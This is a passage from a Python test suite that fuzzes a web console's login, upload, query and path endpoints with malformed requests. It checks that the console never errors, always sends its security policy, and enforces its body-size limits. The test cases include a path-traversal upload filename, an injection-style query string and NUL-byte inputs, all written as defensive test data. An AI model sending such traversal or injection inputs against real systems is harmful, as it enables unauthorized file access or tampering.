        "upload traversal filename": lambda: b.post("/ui/libraries/upload", data={"csrf": b.csrf, "name": "x"},
                                                    files={"archive": ("../../../../tmp/x.tar.gz", b"x")}),
        "multipart without boundary": raw_form("/ui/libraries/upload", b"xx", "multipart/form-data"),
        "multipart garbage": raw_form("/ui/libraries/upload", b"--b\r\nxx\r\n", "multipart/form-data; boundary=b"),
        "multipart unterminated": raw_form("/ui/libraries/upload",
                                           b'--b\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n' + t,
                                           "multipart/form-data; boundary=b"),
        "multipart non-UTF-8 names": lambda: b.post("/ui/libraries/register", content=_multipart(
            [(b'name="csrf"', t), (b'name="na\xffme"', b"\xff\xfe"), (b'name="url"', b"\xff")])[0],
            headers=_multipart([])[1]),
        "multipart 1001 fields": lambda: b.post("/ui/libraries/register", content=_multipart(
            [(b'name="csrf"', t)] + [(f'name="f{i}"'.encode(), b"x") for i in range(1001)])[0],
            headers=_multipart([])[1]),
        "multipart 1001 files": lambda: b.post("/ui/libraries/upload", data={"csrf": b.csrf, "name": "x"},
                                               files=[("archive", (f"{i}.tar.gz", b"x")) for i in range(1001)]),
        "multipart 2 MiB text part": lambda: b.post("/ui/libraries/register", data={"csrf": b.csrf, "name": "x",
                                                                                  "url": "h" * (2 * MiB)},
                                                    files={"z": ("z", b"z")}),
        "multipart/mixed": raw_form("/ui/logout", b"--b--\r\n", "multipart/mixed; boundary=b"),
        "urlencoded 1100 fields": raw_form("/ui/logout", "&".join(f"f{i}=x" for i in range(1100)).encode()),
        "text/plain body": raw_form("/ui/logout", b"csrf=" + t, "text/plain"),
        "no content type": lambda: b.post("/ui/logout", content=b"csrf=" + t, headers={"content-type": ""}),
        "login key too long": lambda: b.post("/ui/login", data={"key": "k" * 201, "csrf": "c"}),
        "login csrf too long": lambda: b.post("/ui/login", data={"key": "k", "csrf": "c" * 101}),
        "login key NUL": lambda: b.post("/ui/login", data={"key": "sr_\x00", "csrf": "c"}),
        "login key as file": lambda: b.post("/ui/login", files={"key": ("k", b"k"), "csrf": ("c", b"c")}),
        "login non-UTF-8": raw_form("/ui/login", b"key=%ff%fe\xff&csrf=%ff"),
        "login JSON": lambda: b.post("/ui/login", json={"key": "k", "csrf": "c"}),
        "query q huge": lambda: b.get("/ui/skills", params={"q": "q" * 10_001}),
        "query q non-UTF-8": lambda: b.get("/ui/skills?q=%ff%fe%ED%A0%80"),
        "query q regex": lambda: b.get("/ui/skills", params={"q": "(*)[\\^$\x00\"' OR NEAR( *:*"}),
        "query status NUL": lambda: b.get("/ui/runs", params={"status": "\x00"}),
        "query skill long": lambda: b.get("/ui/runs", params={"skill": "s" * 65}),
        "skill name NUL": lambda: b.get("/ui/skills/a%00b"),
        "skill name non-UTF-8": lambda: b.get("/ui/skills/%ff%fe"),
        "skill name long": lambda: b.get("/ui/skills/" + "s" * 5000),
        "doc name long": lambda: b.get(f"/ui/skills/{SKILL}/docs/" + "d" * 5000),
        "file name long": lambda: b.get("/ui/runs/nosuchrun/files/" + "f" * 5000),
        "file name non-UTF-8": lambda: b.get("/ui/runs/nosuchrun/files/%ff"),
        "run id long": lambda: b.get("/ui/runs/" + "r" * 65),
        "cookie odd": lambda: cookie_client(console, "\\x00;=,\"").get("/ui/skills"),
        "cookie long": lambda: cookie_client(console, "t" * 5000).get("/ui/skills"),
    }
    return cases


async def test_odd_input_never_makes_a_500_or_a_page_without_the_csp_and_changes_nothing(console):
    for n in (1, 2):
        install_library(console, "team-a", "lib", {f"s{n}/SKILL.md": skill_md(f"s{n}", "x\n")})
    browser = await console.browser()
    failures = []
    for name, request in _odd_requests(console, browser).items():
        answer = await request()
        if answer.status_code >= 500:
            failures.append(f"{name}: {answer.status_code} {answer.text[:200]!r}")
        elif answer.status_code != 413 and answer.headers.get("content-security-policy") != DESIGN_CSP:
            failures.append(f"{name}: {answer.status_code} without the CSP")
        elif active_content(answer.text):
            failures.append(f"{name}: {active_content(answer.text)}")
    assert failures == []
    assert _runs_of(console) == []
    assert [library.name for library in console.services.libraries.list("team-a")] == ["lib"]
    assert _current(console, "team-a", "lib") == 2


# ----------------------------------------------------------------------------------------------------------------
# 10. Body bounds: 4 MiB for every console form but the archive upload


CONSOLE_POSTS = ["/ui/login", "/ui/logout", f"/ui/skills/{SKILL}/run", "/ui/runs/r1/cancel",
                 "/ui/libraries/register", "/ui/libraries/lib/current", "/ui/libraries/upload/x",
                 "/ui/libraries/x/upload", "/ui/libraries/uploads", "/ui/librariesupload"]


def test_every_console_form_but_the_upload_is_bounded_at_4_mib():
    for path in CONSOLE_POSTS:
        assert body_limit("POST", path) == JSON_BODY_BYTES == 4 * MiB, path
    assert body_limit("POST", "/ui/libraries/upload") == UPLOAD_BODY_BYTES
    assert body_limit("GET", "/ui/libraries/upload") == JSON_BODY_BYTES


@pytest.mark.parametrize("chunked", [False, True], ids=["declared", "chunked"])
async def test_a_run_form_over_4_mib_is_refused_before_it_is_read_and_starts_nothing(console, chunked):
    browser = await console.browser()
    body = b"csrf=" + browser.csrf.encode() + b"&command=true" + b"".join(  # fields each under Starlette's 1 MiB
        f"&env{i}=".encode() + b"x" * (MiB - 16) for i in range(5))

    async def stream():
        for i in range(0, len(body), MiB):
            yield body[i:i + MiB]

    answer = await browser.post(f"/ui/skills/{SKILL}/run", content=stream() if chunked else body,
                                headers={"content-type": "application/x-www-form-urlencoded"})
    assert answer.status_code == 413 and str(JSON_BODY_BYTES) in answer.text
    assert _runs_of(console) == []


async def test_the_upload_form_takes_more_than_4_mib_and_no_more_than_the_upload_bound(console):
    browser = await console.browser()
    big = await browser.post("/ui/libraries/upload", data={"csrf": browser.csrf, "name": "big"},
                             files={"archive": ("big.tar.gz", b"\0" * (5 * MiB))})
    assert big.status_code == 422, big.status_code  # read whole (refused as not an archive), not a 413
    reached: list[int] = []

    async def app(scope, receive, send):  # the console behind the middleware, reading the body as it comes
        while True:
            message = await receive()
            reached.append(len(message.get("body", b"")))
            if not message.get("more_body"):
                return

    sent: list[dict] = []

    async def send(message):
        sent.append(message)

    scope = {"type": "http", "method": "POST", "path": "/ui/libraries/upload",
             "headers": [(b"content-length", str(UPLOAD_BODY_BYTES + 1).encode())]}
    await BodyLimitMiddleware(app)(scope, lambda: None, send)
    assert sent[0]["status"] == 413 and reached == []
    block, chunks = b"\0" * (8 * MiB), 0

    async def receive():
        nonlocal chunks
        chunks += 1
        return {"type": "http.request", "body": block, "more_body": True}

    scope["headers"] = []
    with pytest.raises(HTTPException) as refused:  # the app's error handler answers it (a 413 page)
        await BodyLimitMiddleware(app)(scope, receive, send)
    assert refused.value.status_code == 413
    assert chunks * len(block) <= UPLOAD_BODY_BYTES + len(block)
